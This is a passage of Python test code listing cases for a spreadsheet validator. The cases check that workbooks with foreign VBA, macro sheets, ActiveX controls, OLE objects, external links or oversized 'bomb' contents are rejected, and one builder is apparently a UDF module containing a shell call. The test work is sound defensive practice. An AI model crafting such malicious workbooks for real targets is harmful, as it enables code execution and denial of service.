    ("ole-renamed", "7", ole_renamed, "ole compound file", False),
    ("foreign-vba", "7", foreign_vba, "vba project other than the shipped workbook's", False),
    ("edited-vba-module", "7", edited_vba, "vba project other than the shipped workbook's", False),
    (
        "edited-xlwings-udfs",
        "7",
        udf_module_with_shell,
        "xlwings_udfs module is not what import functions writes",
        False,
    ),
    ("million-rows", "7", million_rows, "more than 200,000 rows", False),
    ("far-cell-full-dimension", "11.3", far_cell_full_dimension, "beyond row 200,000", True),
    ("far-cell", "11.3", far_cell, "beyond row 200,000", False),
    ("full-dimension", "11.3", full_dimension, "declares cells beyond row 200,000", False),
    ("far-corner", "11.3", far_corner, "spans more than 5,000,000 cells", False),
    ("many-cells", "11.3", many_cells, "more than 500,000 cells", False),
    ("bzip2-entry", "11.4", bzip2_entry, "compressed with bzip2", True),
    ("lzma-entry", "11.4", lzma_entry, "compressed with lzma", False),
    ("deflate64-entry", "11.4", deflate64_entry, "compressed with deflate64", False),
    (
        "foreign-vba-elsewhere",
        "11.5",
        foreign_vba_elsewhere,
        "vba project other than the shipped workbook's",
        True,
    ),
    (
        "foreign-vba-by-content-type",
        "11.5",
        foreign_vba_by_content_type,
        "vba project other than the shipped workbook's",
        False,
    ),
    ("macro-sheet-elsewhere", "11.5", macro_sheet_elsewhere, "excel 4.0 macro sheets", False),
    ("dialog-sheet", "11.5", dialog_sheet, "dialog sheets", False),
    ("activex-control", "11.5", activex_control, "activex controls", False),
    ("ole-object", "11.5", ole_object, "embedded ole objects", False),
    ("undeclared-ole", "11.5", undeclared_ole, "embedded ole objects", False),
    ("external-link", "11.5", external_link, "links to other workbooks", False),
    ("rows-tab", "11.8", rows_tab, "more than 200,000 rows", True),
    ("rows-newline", "11.8", rows_newline, "more than 200,000 rows", False),
    ("rows-prefixed", "11.8", rows_prefixed, "more than 200,000 rows", False),
    ("rows-empty", "11.8", rows_empty, "more than 200,000 rows", False),
    ("rows-elsewhere", "11.8", rows_elsewhere, "more than 200,000 rows", False),
    ("million-entries", "11.9", million_entries, "declares 1,700,000", False),
    ("many-shared-strings", "11.9", many_shared_strings, "more than 200,000 shared strings", True),
    ("long-shared-strings", "11.9", long_shared_strings, "more than 10,000,000 characters", False),
    ("many-elements", "11.9", many_elements, "more than 2,000,000 elements", False),
    ("long-tag", "11.9", long_tag, "longer than 4 mib", False),
    ("styles-bomb", "11.9", styles_bomb, "more than 100,000 xml elements", True),
    ("defined-names-bomb", "11.9", defined_names_bomb, "more than 100,000 xml elements", False),
    ("data-connection", "11.5", data_connection, "external data connections", False),
]

CASES: list[Case] = [
    Case(name, finding, build, reason, COMMANDS if every else _one(i))
    for i, (name, finding, build, reason, every) in enumerate(_SPECS)
]
